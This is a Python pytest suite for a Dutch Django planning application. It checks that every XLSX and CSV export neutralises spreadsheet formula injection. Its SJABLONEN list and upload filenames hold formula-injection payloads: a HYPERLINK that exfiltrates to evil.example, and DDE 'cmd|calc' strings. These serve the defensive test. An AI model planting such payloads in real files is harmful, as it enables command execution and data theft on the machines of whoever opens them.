"""Exports are inert (issue 17, point 1): no user text becomes a formula in any XLSX or CSV.

The Drenthe demo with the areas' demos (overleg, verzoeken, toezicht, Woo), a scenario, a
report version, a submission, uploads and history gets a hostile text in EVERY free text field
of every model of the project (``VELDEN``: the fields the product's users, imports and
admin fill; identifiers such as CBS codes and checksums are left alone) — each field its own
marker, so the test knows which text reached which export. Then every page of the site (every
URL pattern outside the API and the admin, with the ids of real objects) is requested as the
secretariaat, plus ``?formaat=xlsx`` and ``?formaat=csv``, and every Excel or CSV link on it is
followed; other personas for the pages only they see. Every workbook and CSV that comes back:

- no cell is a formula, except the product's own totals (SUM, a row sum, a quotient);
- every text cell is a typed string cell; a CSV cell that a spreadsheet would read as a
  formula starts with a quote (a number stays a number);
- the exports listed in ``EXPORTS`` were all reached, and the fields issue 17 names reached
  at least one of them (so the test cannot pass by finding nothing).

The CLI exports (``export``, ``rapport --format xlsx``) are checked the same way.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import models
from django.test import Client
from django.urls import reverse

from regietafel.accounts.models import Gebruiker
from regietafel.gemeenten.models import Gemeente, Provincie
from tests.taken.hulp import haal
from tests.urlpatronen import site_patronen

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SPREADSHEET_TEKENS = ("=", "+", "-", "@", "\t", "\r", "\n")
PRODUCT_FORMULE = re.compile(
    r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)"
    r"|=[A-Z]+\d+(?:\+[A-Z]+\d+)+"
    r'|=IF\([A-Z]+\d+>0,[A-Z]+\d+/[A-Z]+\d+,"n\.v\.t\."\)'
)
GETAL = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
MARKER = re.compile(r"X\d{3}Y")

# --------------------------------------------------------------------------- hostile texts

SJABLONEN = (
    '=HYPERLINK("http://evil.example/?d="&A2,"{m}")',
    "=cmd|' /C calc'!A0 {m}",
    "-2+3+cmd|' /C calc'!{m}",
    "@SUM(1+1)*cmd|' /C calc'!{m}",
    "+1+{m}",
    "\t=1+2 {m}",
    "\r=1+2 {m}",
)
KORT = "={m}"

NIET_VIJANDIG = {
    # Identifiers and technical fields: codes in URLs, checksums, paths, passwords.
    "accounts.gebruiker.password",
    "accounts.gebruiker.email",
    "audit.auditregel.object_type",
    "audit.auditregel.object_id",
    "gemeenten.provincie.code",
    "gemeenten.provincie.naam",  # the key of REGIETAFEL_PROVINCIE and the CLI's --provincie
    "gemeenten.gemeente.cbs_code",
    "opgaven.cyclus.code",
    "verzoeken.nareismaatregel.code",
    "toezicht.document.extensie",
    "woo.woodocument.tekst",  # the redactions are offsets into the text
    "woo.lak.tekst",
}


@dataclass
class Vijandig:
    velden: dict[str, str] = field(default_factory=dict)
    """marker → field label ("locaties.locatie.naam")."""


def _tekstvelden() -> Iterator[tuple[type[models.Model], models.Field[Any, Any]]]:
    for model in apps.get_models():
        if not model.__module__.startswith("regietafel."):
            continue
        for f in model._meta.concrete_fields:
            label = f"{model._meta.label_lower}.{f.name}"
            if label in NIET_VIJANDIG or f.choices or not f.editable:
                continue
            if isinstance(f, models.CharField | models.TextField | models.JSONField):
                if "checksum" in f.name or isinstance(f, models.SlugField):
                    continue
                yield model, f


def _uniek(model: type[models.Model], f: models.Field[Any, Any]) -> bool:
    """Part of a uniqueness rule: each row then gets its own text (the marker and its id)."""
    samen = [set(u) for u in model._meta.unique_together]
    samen += [set(c.fields) for c in model._meta.total_unique_constraints]
    return bool(f.unique) or any(f.name in u for u in samen)


def _tekst(sjabloon: str, marker: str, lengte: int | None) -> str | None:
    tekst = sjabloon.format(m=marker)
    if lengte is not None and len(tekst) > lengte:
        tekst = KORT.format(m=marker)
    return tekst if lengte is None or len(tekst) <= lengte else None


def maak_vijandig(behalve: frozenset[str] = frozenset()) -> Vijandig:
    """Every free text field of every row: a hostile text with the field's own marker."""
    uit = Vijandig()
    for i, (model, f) in enumerate(_tekstvelden()):
        marker = f"X{i:03d}Y"
        label = f"{model._meta.label_lower}.{f.name}"
        if label in behalve:
            continue
        tekst = _tekst(SJABLONEN[i % len(SJABLONEN)], marker, getattr(f, "max_length", None))
        if tekst is None:
            continue
        uit.velden[marker] = label
        qs = model._default_manager.all()
        if isinstance(f, models.JSONField):
            for obj in qs:
                waarde = getattr(obj, f.name)
                if isinstance(waarde, dict):
                    nieuw = dict.fromkeys(waarde, tekst) or {"tekst": tekst}
                    if label == "audit.auditregel.wijzigingen":
                        nieuw = {k: [tekst, tekst] for k in waarde} or {"veld": [tekst, tekst]}
                    model._default_manager.filter(pk=obj.pk).update(**{f.name: nieuw})
        elif _uniek(model, f):
            for obj in qs:
                eigen = f"{tekst} {obj.pk}"[: f.max_length] if f.max_length else f"{tekst} {obj.pk}"
                model._default_manager.filter(pk=obj.pk).update(**{f.name: eigen})
        else:
            qs.update(**{f.name: tekst})
    return uit


# --------------------------------------------------------------------------- the data


def _gebruiker(naam: str) -> Gebruiker:
    return Gebruiker.objects.get(username=naam)


def _client(gebruiker: Gebruiker) -> Client:
    client = Client()
    client.force_login(gebruiker)
    return client


def _laad(tmp_path: Path) -> dict[str, Any]:
    """Objects of every kind the exports show, made through the services and the pages."""
    import datetime as dt

    from regietafel.demo import overleg, verzoeken, woo
    from regietafel.locaties.models import Locatie
    from regietafel.locaties.services import wijzig_locatie
    from regietafel.monitoring.services import dien_in
    from regietafel.rapportage.services import bewaar_versie
    from regietafel.verdeling.services import kopieer_scenario
    from tests.aanlevering.bestanden import coa_rijen, schrijf_coa
    from tests.verdeling.factories import drenthe_2024

    verzoeken.laad(None)
    overleg.laad(None)
    woo.laad(None)
    secretariaat = _gebruiker("secretariaat")
    drenthe = Provincie.objects.get(naam="Drenthe")
    scenario = drenthe_2024()
    kopie = kopieer_scenario(door=secretariaat, scenario=scenario)
    assen = Gemeente.objects.get(naam="Assen")
    dien_in(
        door=_gebruiker("gemeente-assen"),
        gemeente=assen,
        peildatum=dt.date(2025, 11, 1),
        aantallen={"amv": 4},
        toelichting="=1+1",
    )
    bewaar_versie(
        door=secretariaat,
        soort="stand_van_zaken",
        provincie=drenthe,
        peildatum=dt.date(2025, 11, 1),
        versie_datum=dt.date(2025, 11, 14),
        teksten={"inleiding": "=1+1"},
        adressering="=1+1",
    )
    from regietafel.overleg.models import Agendapunt, Bijlage
    from regietafel.overleg.services import voeg_bijlage_toe
    from regietafel.toezicht.models import Stap
    from regietafel.toezicht.services import voeg_document_toe
    from regietafel.verzoeken.models import Activering, Kandidaatlocatie
    from regietafel.verzoeken.services import activeer

    if not Activering.objects.exists():
        kandidaat = Kandidaatlocatie.objects.exclude(gereedheid="vervallen").order_by("pk").first()
        assert kandidaat is not None
        activeer(
            door=secretariaat,
            kandidaat=kandidaat,
            geactiveerd_op=dt.date(2025, 11, 20),
            plaatsen=1,
            door_wie="=1+1",
        )
    stap = Stap.objects.order_by("pk").first()
    assert stap is not None
    voeg_document_toe(door=secretariaat, stap=stap, bestandsnaam="=1+1.txt", data=b"brief")
    if not Bijlage.objects.exists():
        punt = Agendapunt.objects.order_by("pk").first()
        assert punt is not None
        voeg_bijlage_toe(door=secretariaat, punt=punt, bestandsnaam="=1+1.txt", data=b"notitie")
    from regietafel.herinneringen.services import zet_afwijkende_termijn

    zet_afwijkende_termijn(
        door=secretariaat,
        provincie=drenthe,
        peildatum=dt.date(2026, 1, 1),
        uiterste_datum=dt.date(2026, 1, 15),
        toelichting="=1+1",
    )
    locatie = Locatie.objects.filter(gemeente=assen).first()
    assert locatie is not None
    wijzig_locatie(door=secretariaat, locatie=locatie, bijzonderheden="-2+3")
    # Two uploads that change a figure, confirmed on the page: by the secretariaat and by COA
    # (a name that passes the extension check and still reads as a formula).
    for i, (wie, naam) in enumerate(
        (("secretariaat", "=HYPERLINK(1).xlsx"), ("coa", "=cmd|' -C calc'!A0.xlsx"))
    ):
        rijen = coa_rijen()
        rijen[1][11] = 3 + i
        rijen[1][14] += 1 + i
        rijen[1][15] -= 1 + i
        rijen[1][16] -= 1 + i
        pad = schrijf_coa(tmp_path / f"coa{i}.xlsx", rijen)
        client = _client(_gebruiker(wie))
        from django.core.files.uploadedfile import SimpleUploadedFile

        antwoord = client.post(
            "/aanlevering/",
            {"soort": "coa", "bestand": SimpleUploadedFile(naam, pad.read_bytes())},
        )
        assert antwoord.status_code == 200, antwoord.content.decode()[:3000]
        checksum = re.search(r'name="checksum" value="([0-9a-f]{64})"', antwoord.content.decode())
        assert checksum is not None
        assert client.post("/aanlevering/bevestigen/", {"checksum": checksum[1]}).status_code == 200
    # The second cyclus of the demo: its set-up, the aanbod of ten gemeenten with kansrijk
    # elements, and a concept of De Wolden (not handed in).
    from regietafel.cyclus.models import AanbodVersie
    from regietafel.cyclus.services import ElementInvoer, nieuwe_versie, zet_regel
    from regietafel.demo import cyclus as tweede_cyclus
    from regietafel.domain.aanbod import Element

    tweede_cyclus.laad_drenthe()
    concept = nieuwe_versie(
        door=None,
        cyclus=AanbodVersie.objects.order_by("pk").first().cyclus,  # type: ignore[union-attr]
        gemeente=Gemeente.objects.get(naam="De Wolden"),
    )
    zet_regel(
        door=None,
        versie=concept,
        naam="=1+1",
        soort="amv",
        plaatsen=10,
        beschikbaar_van=None,
        beschikbaar_tot=None,
        elementen={Element.TOEZEGGING: ElementInvoer("=1+1")},
    )
    # A verdeelbesluit, so the page shows (and exports) its differences with the verslag.
    from regietafel.aanlevering.services import importeer_verdeelbesluit

    besluit = tmp_path / "verdeelbesluit.csv"
    besluit.write_text("gemeente;amv;regulier;totaal\nAssen;10;900;910\nEmmen;20;400;420\n")
    samenvatting = importeer_verdeelbesluit(
        besluit,
        door=secretariaat,
        cyclus=concept.cyclus,
        provincie=drenthe,
        geldig_vanaf=dt.date(2027, 1, 1),
    )
    assert not samenvatting.fouten, samenvatting.fouten
    goedgekeurd = AanbodVersie.objects.get(gemeente=assen)
    return {
        "scenario": scenario,
        "kopie": kopie,
        "provincie": drenthe,
        "concept": concept,
        "aanbod": goedgekeurd,
    }


# --------------------------------------------------------------------------- the URLs


def _patronen() -> Iterator[tuple[str, str, list[str]]]:
    """(name, route, parameter names) of every URL of the site outside the API and admin."""
    for p in site_patronen():
        yield p.naam, p.route, list(p.parameters)


def _eerste(label: str, **filter_: Any) -> Any:
    obj = apps.get_model(label)._default_manager.filter(**filter_).order_by("pk").first()
    assert obj is not None, f"geen {label} om te exporteren"
    return obj


def _pk(label: str, **filter_: Any) -> Callable[[dict[str, Any]], list[dict[str, Any]]]:
    return lambda data: [{"pk": _eerste(label, **filter_).pk}]


def _document(data: dict[str, Any]) -> list[dict[str, Any]]:
    document = _eerste("woo.woodocument")
    return [{"pk": document.besluit_id, "nummer": document.nummer}]


def _lak(data: dict[str, Any]) -> list[dict[str, Any]]:
    lak = _eerste("woo.lak")
    return [{"pk": lak.document.besluit_id, "nummer": lak.document.nummer, "lak": lak.pk}]


def _overleg_formaten(data: dict[str, Any]) -> list[dict[str, Any]]:
    pk = _eerste("overleg.overleg").pk
    return [{"pk": pk, "formaat": f} for f in ("xlsx", "pdf", "docx")]


def _historie(data: dict[str, Any]) -> list[dict[str, Any]]:
    """One record per kind of record with history (the most recently changed one)."""
    from regietafel.audit.models import AuditRegel

    uit = {}
    for object_type, object_id in AuditRegel.objects.order_by("-id").values_list(
        "object_type", "object_id"
    ):
        uit.setdefault(object_type, object_id)
    return [
        {"app_label": t.split(".")[0], "model": t.split(".")[1], "pk": i} for t, i in uit.items()
    ]


PARAMETERS: dict[str, Callable[[dict[str, Any]], list[dict[str, Any]]]] = {
    "trends-gemeente": lambda data: [
        {"cbs_code": Gemeente.objects.get(cbs_code="GM0106").cbs_code}
    ],
    # Any well-formed key: a key not stored draws today's chart of the panel.
    "trends-grafiek": lambda data: [{"paneel": "regulier", "sleutel": "0" * 64}],
    "locaties:capaciteit-grafiek": lambda data: [{"paneel": "regulier", "sleutel": "0" * 64}],
    "inzending": _pk("monitoring.inzending"),
    "inzending-goedkeuren": _pk("monitoring.inzending"),
    "inzending-terugsturen": _pk("monitoring.inzending"),
    "verdeling:scenario": lambda data: [{"pk": data["scenario"].pk}],
    "verdeling:kopieer": lambda data: [{"pk": data["scenario"].pk}],
    "verdeling:verwijder": lambda data: [{"pk": data["scenario"].pk}],
    "verdeling:export-xlsx": lambda data: [{"pk": data["scenario"].pk}, {"pk": data["kopie"].pk}],
    "verdeling:tabel1-docx": lambda data: [{"pk": data["scenario"].pk}],
    "verdeling:tabel1-pdf": lambda data: [{"pk": data["scenario"].pk}],
    "rapportage:stand-van-zaken-download": lambda data: [{"formaat": "xlsx"}],
    "rapportage:stand-landelijk-download": lambda data: [{"formaat": "xlsx"}],
    "rapportage:verslag": lambda data: [{"jaar": 2024}],
    "rapportage:verslag-teksten": lambda data: [{"jaar": 2024}],
    "rapportage:verslag-download": lambda data: [{"jaar": 2024, "formaat": "xlsx"}],
    "locaties:detail": _pk("locaties.locatie"),
    "locaties:wijzig": _pk("locaties.locatie"),
    "locaties:beeindig": _pk("locaties.locatie"),
    "verzoeken:verzoek": _pk("verzoeken.noodopvangverzoek"),
    "verzoeken:verzoek-bewerken": _pk("verzoeken.noodopvangverzoek"),
    "verzoeken:kandidaat-nieuw": _pk("verzoeken.noodopvangverzoek"),
    "verzoeken:kandidaat": _pk("verzoeken.kandidaatlocatie"),
    "verzoeken:activeren": _pk("verzoeken.kandidaatlocatie"),
    "verzoeken:beeindigen": _pk("verzoeken.activering"),
    "verzoeken:plaatsing": _pk("verzoeken.nareizigersplaatsing"),
    "toezicht:dossier": _pk("toezicht.dossier"),
    "toezicht:stap-nieuw": _pk("toezicht.dossier"),
    "toezicht:stap": _pk("toezicht.stap"),
    "toezicht:document-nieuw": _pk("toezicht.stap"),
    "toezicht:document": _pk("toezicht.document"),
    "overleg:overleg": _pk("overleg.overleg"),
    "overleg:bewerken": _pk("overleg.overleg"),
    "overleg:instemmen": _pk("overleg.overleg"),
    "overleg:agenda": _overleg_formaten,
    "overleg:actielijst": _overleg_formaten,
    "overleg:nieuw-punt": _pk("overleg.overleg"),
    "overleg:punt": _pk("overleg.agendapunt"),
    "overleg:verwijder-punt": _pk("overleg.agendapunt"),
    "overleg:besluit": _pk("overleg.agendapunt"),
    "overleg:actie": _pk("overleg.agendapunt"),
    "overleg:bijlage-toevoegen": _pk("overleg.agendapunt"),
    "overleg:rapport": _pk("overleg.agendapunt"),
    "overleg:verwijder-besluit": _pk("overleg.besluit"),
    "overleg:bijlage": _pk("overleg.bijlage"),
    "overleg:verwijder-bijlage": _pk("overleg.bijlage"),
    "overleg:actie-status": _pk("overleg.actie"),
    "overleg:brief": _pk("overleg.brief"),
    "overleg:brief-bestand": _pk("overleg.brief"),
    "woo:besluit": _pk("woo.woobesluit"),
    "woo:document-toevoegen": _pk("woo.woobesluit"),
    "woo:besluit-pdf": _pk("woo.woobesluit"),
    "woo:document": _document,
    "woo:document-pdf": _document,
    "woo:lak": _lak,
    "woo:eigen-lak": _document,
    "woo:status": _document,
    "historie:historie": _historie,
    "rapportage:verslag-vaststellen": lambda data: [{"jaar": 2026}],
    "cyclus:overzicht": lambda data: [{"jaar": 2026}, {"jaar": 2024}],
    "cyclus:opzet": lambda data: [{"jaar": 2026}],
    "cyclus:puzzel": lambda data: [{"jaar": 2026}, {"jaar": 2024}],
    "cyclus:aanbod": lambda data: [{"jaar": 2026}],
    "cyclus:indicatief": lambda data: [{"jaar": 2026}],
    "cyclus:indicatief-bevestigen": lambda data: [{"jaar": 2026}],
    "cyclus:verdeelbesluit": lambda data: [{"jaar": 2026}],
    "cyclus:verdeelbesluit-bevestigen": lambda data: [{"jaar": 2026}],
    "cyclus:versie": lambda data: _versies(data),
    "cyclus:regel-nieuw": lambda data: [{"pk": data["concept"].pk}],
    "cyclus:locatie": lambda data: [{"pk": data["concept"].pk}],
    "cyclus:indienen": lambda data: [{"pk": data["concept"].pk}],
    "cyclus:goedkeuren": lambda data: [{"pk": data["concept"].pk}],
    "cyclus:terugsturen": lambda data: [{"pk": data["concept"].pk}],
    "cyclus:regel": lambda data: [{"pk": data["concept"].regels.get().pk}],
    "cyclus:regel-verwijderen": lambda data: [{"pk": data["concept"].regels.get().pk}],
    "cyclus:bijlage": _pk("cyclus.kansrijkelement"),
    "herinneringen:verwijder-afwijkend": _pk("herinneringen.afwijkendetermijn"),
    "taken:taak": lambda data: [{"pk": _taak()}],
    "taken:status": lambda data: [{"pk": _taak()}],
    "taken:bestand": lambda data: [{"pk": _taak()}],
}


def _versies(data: dict[str, Any]) -> list[dict[str, Any]]:
    """An approved aanbod (Assen's) and the concept."""
    return [{"pk": data["aanbod"].pk}, {"pk": data["concept"].pk}]


def _taak() -> Any:
    """A job of the secretariaat (its status page; its file answers 404 until it is made)."""
    from regietafel.taken.models import Taak

    taak = Taak.objects.filter(omschrijving="Taak van de looptest").first()
    if taak is None:
        # Names and user names carry hostile text by now: find the secretariaat by its role.
        secretariaat = Gebruiker.objects.filter(rol="secretariaat").order_by("pk").first()
        assert secretariaat is not None and secretariaat.provincie is not None
        taak = Taak.objects.create(
            soort="rapportage.stand_van_zaken",
            omschrijving="Taak van de looptest",
            aangevraagd_door=secretariaat,
            provincie=secretariaat.provincie,
        )
    return taak.pk


QUERY: dict[str, Callable[[dict[str, Any]], str]] = {
    "verdeling:vergelijk": lambda data: f"?a={data['scenario'].pk}&b={data['kopie'].pk}",
}
OVERGESLAGEN = {"login", "logout"}
"""Signing in and out: no export."""

EXPORTS = {
    # Every URL that answers with a workbook (?formaat=xlsx, an Excel link, a download) …
    "stand-van-zaken",
    "trends",
    "trends-gemeente",
    "inzendingen",
    "inzending",
    "aanlevering:start",
    "verdeling:lijst",
    "verdeling:vergelijk",
    "verdeling:oekraine",
    "verdeling:scenario",
    "verdeling:export-xlsx",
    "rapportage:lijst",
    "rapportage:stand-van-zaken-download",
    "rapportage:stand-landelijk-download",
    "rapportage:verslag-download",
    "locaties:lijst-excel",
    "locaties:capaciteit-excel",
    "verzoeken:overzicht",
    "verzoeken:verzoek",
    "verzoeken:nareizigers",
    "toezicht:overzicht",
    "toezicht:dossier",
    "overleg:lijst",
    "overleg:agenda",
    "overleg:actielijst",
    "overleg:acties",
    "overleg:brieven",
    "woo:lijst",
    "woo:besluit",
    "woo:document",
    "landelijk:overzicht",
    "kaart:provincie",
    "kaart:nederland",
    "historie:wijzigingen",
    "historie:historie",
    "cyclus:lijst",
    "cyclus:puzzel",
    "cyclus:versie",
    "cyclus:verdeelbesluit",
}
CSV_EXPORTS = {"historie:wijzigingen", "historie:historie"}

VERPLICHT = {
    # The user-editable texts issue 17 names (and more): each must reach at least one export.
    "locaties.locatie.naam",
    "locaties.locatie.bijzonderheden",
    "aanlevering.aanlevering.bestandsnaam",
    "overleg.overleg.locatie",
    "overleg.agendapunt.titel",
    "overleg.besluit.tekst",
    "overleg.actie.omschrijving",
    "overleg.bijlage.titel",
    "overleg.brief.onderwerp",
    "overleg.brief.opvolging",
    "verzoeken.noodopvangverzoek.van_wie",
    "verzoeken.kandidaatlocatie.naam",
    "verzoeken.kandidaatlocatie.notities",
    "verzoeken.activering.notities",
    "verzoeken.nareizigersplaatsing.hotel",
    "toezicht.stap.notities",
    "toezicht.document.naam",
    "woo.woobesluit.titel",
    "woo.woobesluit.kenmerk",
    "woo.woodocument.titel",
    "verdeling.scenario.naam",
    "gemeenten.gemeente.naam",
    "monitoring.inzending.opmerking",
    "rapportage.rapportversie.adressering",
    "rapportage.rapportversie.teksten",
    "audit.auditregel.wijzigingen",
    "audit.auditregel.object_omschrijving",
    "audit.auditregel.bron",
    "accounts.gebruiker.username",
    "cyclus.aanbodregel.naam",
    "cyclus.aanbodregel.toelichting",
    "cyclus.kansrijkelement.toelichting",
}


# --------------------------------------------------------------------------- the checks


@dataclass
class Bevindingen:
    vijandig: Vijandig
    downloads: dict[str, set[str]] = field(default_factory=dict)
    """URL name → the URLs that gave a workbook or CSV."""
    csv: set[str] = field(default_factory=set)
    gezien: dict[str, set[str]] = field(default_factory=dict)
    """marker → the URL names whose export holds it."""
    formules: int = 0
    cellen: int = 0
    fouten: list[str] = field(default_factory=list)

    def markers(self, tekst: str, naam: str) -> None:
        for m in MARKER.findall(tekst):
            self.gezien.setdefault(m, set()).add(naam)

    def controleer_xlsx(self, naam: str, url: str, inhoud: bytes) -> None:
        from openpyxl import load_workbook

        wb = load_workbook(io.BytesIO(inhoud))
        for ws in wb.worksheets:
            for rij in ws.iter_rows():
                for c in rij:
                    if c.value is None:
                        continue
                    self.cellen += 1
                    plaats = f"{url} blad {ws.title!r} {c.coordinate}"
                    if c.data_type == "f":
                        if not PRODUCT_FORMULE.fullmatch(str(c.value)):
                            self.fouten.append(f"{plaats}: formule {c.value!r}")
                        self.formules += 1
                    elif isinstance(c.value, str):
                        if c.data_type != "s":
                            self.fouten.append(f"{plaats}: tekst als {c.data_type!r}")
                        self.markers(c.value, naam)
        self.downloads.setdefault(naam, set()).add(url)

    def controleer_csv(self, naam: str, url: str, inhoud: bytes) -> None:
        tekst = inhoud.decode("utf-8-sig")
        for r, rij in enumerate(csv.reader(io.StringIO(tekst, newline=""), delimiter=";")):
            for k, cel in enumerate(rij):
                self.cellen += 1
                if cel.lstrip(" ").startswith(SPREADSHEET_TEKENS) and not GETAL.fullmatch(cel):
                    self.fouten.append(f"{url} rij {r + 1} kolom {k + 1}: {cel[:60]!r}")
                self.markers(cel, naam)
        self.downloads.setdefault(naam, set()).add(url)
        self.csv.add(naam)

    def antwoord(self, naam: str, url: str, response: Any) -> None:
        soort = response.get("Content-Type", "")
        if response.status_code != 200:
            return
        if soort == XLSX:
            self.controleer_xlsx(naam, url, response.content)
        elif soort.startswith("text/csv"):
            self.controleer_csv(naam, url, response.content)


DOWNLOAD = re.compile(r"[?&](formaat=(xlsx|csv)|xlsx=)|\.(xlsx|csv)($|\?)")
"""A link to a workbook or CSV: ``?formaat=xlsx``, the verzoeken pages' ``?xlsx=<tabel>``,
a URL ending in .xlsx or .csv."""


class _Links(HTMLParser):
    def __init__(self, pagina: str) -> None:
        super().__init__(convert_charrefs=True)
        self.pagina = pagina
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        href = dict(attrs).get("href") or ""
        if tag != "a" or not href or href.startswith(("http:", "https:", "#", "mailto:")):
            return
        url = urljoin(self.pagina, href)
        if DOWNLOAD.search(url):
            self.links.add(url)


def _download_links(pagina: str, html: str) -> set[str]:
    lezer = _Links(pagina)
    lezer.feed(html)
    return lezer.links


def _naam_van(url: str) -> str:
    from django.urls import resolve

    match = resolve(urlsplit(url).path)
    return f"{match.namespace}:{match.url_name}" if match.namespace else str(match.url_name)


def loop_site(
    client: Client, bevindingen: Bevindingen, data: dict[str, Any], namen: set[str] | None = None
) -> set[str]:
    """Request every page (or only ``namen``), its ?formaat=xlsx and ?formaat=csv, and every
    download link on it; check each workbook and CSV. Returns the URL names requested."""
    gevraagd: set[str] = set()
    gevolgd: set[str] = set()
    for naam, route, parameters in _patronen():
        if naam in OVERGESLAGEN or (namen is not None and naam not in namen):
            continue
        if parameters:
            assert naam in PARAMETERS, (
                f"{naam} ({route}): geef in PARAMETERS de ids van echte objecten"
            )
            varianten = PARAMETERS[naam](data)
        else:
            varianten = [{}]
        gevraagd.add(naam)
        for kwargs in varianten:
            url = reverse(naam, kwargs=kwargs) + QUERY.get(naam, lambda data: "")(data)
            response = haal(client, url)  # a document made by a job: followed to its file
            bevindingen.antwoord(naam, url, response)
            if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
                continue
            links = _download_links(url, response.content.decode())
            scheiding = "&" if "?" in url else "?"
            links |= {f"{url}{scheiding}formaat=xlsx", f"{url}{scheiding}formaat=csv"}
            for link in sorted(links - gevolgd):
                gevolgd.add(link)
                bevindingen.antwoord(_naam_van(link), link, haal(client, link))
    return gevraagd


# --------------------------------------------------------------------------- the test


def test_every_export_is_inert(drenthe: Provincie, tmp_path: Path, settings: Any) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    data = _laad(tmp_path)
    superuser = Gebruiker.objects.create(username="super", is_superuser=True, is_staff=True)
    clients = {
        naam: _client(_gebruiker(naam)) for naam in ("secretariaat", "gemeente-assen", "coa")
    }
    clients["superuser"] = _client(superuser)
    vijandig = maak_vijandig()
    bevindingen = Bevindingen(vijandig)

    gevraagd = loop_site(clients["secretariaat"], bevindingen, data)
    # The pages other personas see differently: national, a gemeente's own, a supplier's own.
    loop_site(
        clients["superuser"],
        bevindingen,
        data,
        {
            "landelijk:overzicht",
            "kaart:nederland",
            "aanlevering:start",
            "historie:wijzigingen",
            "rapportage:stand-landelijk",
            "rapportage:stand-landelijk-download",
        },
    )
    loop_site(clients["gemeente-assen"], bevindingen, data, {"inzendingen", "locaties:lijst"})
    loop_site(clients["coa"], bevindingen, data, {"aanlevering:start"})

    assert not bevindingen.fouten, "\n".join(bevindingen.fouten[:40])
    assert gevraagd >= {n for n, _, _ in _patronen()} - OVERGESLAGEN
    gevonden = set(bevindingen.downloads)
    assert gevonden >= EXPORTS, f"niet bereikt: {sorted(EXPORTS - gevonden)}"
    assert gevonden <= EXPORTS, f"nieuwe export(s), zet ze in EXPORTS: {sorted(gevonden - EXPORTS)}"
    assert bevindingen.csv == CSV_EXPORTS
    bereikt = {vijandig.velden[m] for m in bevindingen.gezien}
    assert bereikt >= VERPLICHT, sorted(VERPLICHT - bereikt)
    assert bevindingen.formules > 0  # the product's totals are still formulas


def test_the_cli_exports_are_inert(drenthe: Provincie, tmp_path: Path) -> None:
    """``export`` and ``rapport``, with the gemeente names from a register import."""
    from regietafel.gemeenten.services import REGISTER, laad_register

    register = tmp_path / "gemeenten.csv"
    with REGISTER.open(encoding="utf-8", newline="") as bron, register.open("w", newline="") as uit:
        lezer = csv.DictReader(bron)
        schrijver = csv.DictWriter(uit, fieldnames=list(lezer.fieldnames or ()))
        schrijver.writeheader()
        for i, rij in enumerate(lezer):
            if rij["provincie"] == "Drenthe":
                rij["naam"] = SJABLONEN[i % len(SJABLONEN)].format(m="X999Y") + f" {i}"
            schrijver.writerow(rij)
    assert laad_register(door=None, pad=register) == 12
    vijandig = maak_vijandig(behalve=frozenset({"gemeenten.gemeente.naam"}))
    vijandig.velden["X999Y"] = "gemeenten.gemeente.naam"
    bevindingen = Bevindingen(vijandig)
    for wat, formaat in itertools.product(("stand", "statushouders"), ("csv", "xlsx")):
        pad = tmp_path / f"{wat}.{formaat}"
        peildatum = "2025-11-01"
        call_command(
            "export", wat, "--provincie", "Drenthe", "--peildatum", peildatum,
            "--format", formaat, "-o", str(pad),
        )  # fmt: skip
        if formaat == "csv":
            bevindingen.controleer_csv(f"export {wat}", str(pad), pad.read_bytes())
        else:
            bevindingen.controleer_xlsx(f"export {wat}", str(pad), pad.read_bytes())
    pad = tmp_path / "rapport.xlsx"
    call_command(
        "rapport", "stand-van-zaken", "--provincie", "Drenthe", "--peildatum", "2025-11-01",
        "--format", "xlsx", "-o", str(pad),
    )  # fmt: skip
    bevindingen.controleer_xlsx("rapport", str(pad), pad.read_bytes())
    assert not bevindingen.fouten, "\n".join(bevindingen.fouten[:40])
    bereikt = {vijandig.velden[m] for m in bevindingen.gezien}
    assert "gemeenten.gemeente.naam" in bereikt
    assert bevindingen.formules > 0
